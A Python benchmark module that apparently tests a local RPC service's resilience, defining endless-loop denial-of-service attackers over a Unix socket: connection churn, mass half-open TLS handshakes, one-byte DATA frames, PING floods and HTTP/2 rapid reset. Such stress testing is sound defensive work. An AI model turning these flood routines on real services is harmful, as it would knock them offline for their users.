"""Attacks of an untrusted user on the service: each is an endless loop.

A process of its own for each attacker: `python -m benchmarks.attacks NAME SOCKET UID`, as root. It
prints READY, becomes that uid and goes on until it is killed.
"""

import os
import resource
import socket
import ssl
import sys
import time
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path

from benchmarks.wire import (
    DATA,
    END_HEADERS,
    HEADERS,
    PING,
    PREFACE,
    SETTINGS,
    Connection,
    frame,
    header_block,
)

HELD = 1000  # connections that one attacker holds open
PAUSE = 0.001  # after a refusal: an attacker that spins would slow down itself
RST_STREAM = 3
TIMEOUT = 5.0
MESSAGE = 16 * 1024  # the longest request of a peer that is not trusted
AUTHENTICATE, LIST = "/multipass.Rpc/authenticate", "/multipass.Rpc/list"


def spin(_: str) -> None:
    """No attack: a program of another user that only computes, for comparison."""
    while True:
        pass


def connect_and_close(path: str) -> None:
    while True:
        with suppress(OSError), _socket() as peer:
            peer.connect(path)


def hello_and_close(path: str) -> None:
    hello = _client_hello()
    while True:
        with suppress(OSError), _socket() as peer:
            peer.connect(path)
            peer.sendall(hello)


def half_open(path: str) -> None:
    """As many unfinished handshakes at once as the service takes."""
    hello = _client_hello()
    held: list[socket.socket] = []
    while True:
        peer = _socket()
        peer.settimeout(TIMEOUT)
        held.append(peer)
        try:
            peer.connect(path)
            peer.sendall(hello)
        except OSError:
            time.sleep(PAUSE)
        if len(held) >= HELD:
            held.pop(0).close()


def single_bytes(path: str) -> None:
    """A request in DATA frames of one byte each."""
    body = b"\0" + MESSAGE.to_bytes(4, "big") + bytes(MESSAGE)
    parts = b"".join(frame(DATA, 0, 1, body[at : at + 1]) for at in range(len(body) - 1))
    _flood(path, frame(HEADERS, END_HEADERS, 1, header_block(AUTHENTICATE)) + parts, lambda n: b"")


def control_frames(path: str) -> None:
    """Pings until the service ends the connection; then the next one."""
    pings = frame(PING, 0, 0, bytes(8)) * 100
    _flood(path, b"", lambda _: pings)


def rapid_reset(path: str) -> None:
    block = header_block(LIST)
    cancel = (8).to_bytes(4, "big")

    def resets(number: int) -> bytes:
        first = 1 + 200 * number
        return b"".join(
            frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, cancel)
            for stream in range(first, first + 200, 2)
        )

    _flood(path, b"", resets)


def refused_calls(path: str) -> None:
    """One call after the other, as fast as they are answered."""
    context = _context()
    while True:
        try:
            connection = Connection(Path(path), context)
            while True:
                with suppress(RuntimeError):  # the connection was refused
                    connection.call(LIST, b"")
        except OSError:
            time.sleep(PAUSE)


ATTACKS: dict[str, Callable[[str], None]] = {
    "spin": spin,
    "connect-and-close": connect_and_close,
    "hello-and-close": hello_and_close,
    "half-open": half_open,
    "single-bytes": single_bytes,
    "control-frames": control_frames,
    "rapid-reset": rapid_reset,
    "refused-calls": refused_calls,
}


def _flood(path: str, first: bytes, more: Callable[[int], bytes]) -> None:
    """Send until the service hangs up, on one connection after the other. Without `more` a
    connection is held until then."""
    context = _context()
    while True:
        try:
            plain = _socket()
            plain.settimeout(TIMEOUT)
            plain.connect(path)
            with context.wrap_socket(plain) as peer:
                peer.sendall(PREFACE + frame(SETTINGS, 0, 0, b"") + first)
                number = 0
                while data := more(number):
                    peer.sendall(data)
                    number += 1
        except OSError:
            time.sleep(PAUSE)


def _context() -> ssl.SSLContext:
    """Without a certificate of its own, and without a look at the service's."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    return context


def _socket() -> socket.socket:
    return socket.socket(socket.AF_UNIX)


def _client_hello() -> bytes:
    context = ssl.create_default_context()
    context.set_alpn_protocols(["h2"])
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    with suppress(ssl.SSLWantReadError):
        context.wrap_bio(incoming, outgoing, server_hostname="localhost").do_handshake()
    return outgoing.read()


def main() -> None:
    name, path, uid = sys.argv[1], sys.argv[2], int(sys.argv[3])
    # One processor for all attackers: this measures the service, not how the kernel shares
    # processors among users, which is the same for any program ("spin").
    os.sched_setaffinity(0, {max(os.sched_getaffinity(0))})
    resource.setrlimit(resource.RLIMIT_NOFILE, (HELD + 100, HELD + 100))
    os.setgroups([])
    os.setresgid(uid, uid, uid)
    os.setresuid(uid, uid, uid)
    print("READY", flush=True)
    ATTACKS[name](path)


if __name__ == "__main__":
    main()
